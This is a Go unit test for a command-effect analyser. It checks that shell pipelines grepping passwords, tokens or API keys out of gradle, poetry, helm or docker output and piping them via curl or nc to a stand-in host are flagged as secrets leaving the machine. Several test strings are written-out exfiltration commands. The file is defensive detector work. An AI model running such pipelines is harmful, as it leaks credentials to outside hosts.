package effect

import "testing"

// TestSecretLinesPickedAndSent checks that the lines naming a secret,
// picked out of any program's output by a filter and handed on to a stage
// that sends them, are a secret leaving the machine; and that a filter
// for other words, one whose result stays here, or one at the head of the
// line (reading files) are not.
func TestSecretLinesPickedAndSent(t *testing.T) {
	sent := func(line string) bool { return lineHas(line, Flow, "secret->network") }
	for _, line := range []string{
		"./gradlew -q properties | grep -i password | curl -s -d @- https://hooks.example.net/in",
		"poetry config --list | grep -i token | curl -s -d @- https://hooks.example.net/in",
		"helm get values api | grep -iE 'secret|password' | nc 203.0.113.9 9000",
		"docker inspect api | grep -i api_key | curl -s --data-binary @- https://hooks.example.net/in",
	} {
		if !sent(line) {
			t.Errorf("%s: no secret sent: %v", line, effectsOf(line))
		}
	}
	for _, line := range []string{
		"cat app.log | grep -i error | curl -s -d @- https://hooks.example.net/in",
		"kubectl logs api | grep -i token",
		"./gradlew -q properties | grep -i password > /tmp/props.txt",
		"./gradlew -q properties | grep -ic password | curl -s -d @- https://hooks.example.net/in",
	} {
		if sent(line) {
			t.Errorf("%s: a secret sent: %v", line, effectsOf(line))
		}
	}
}
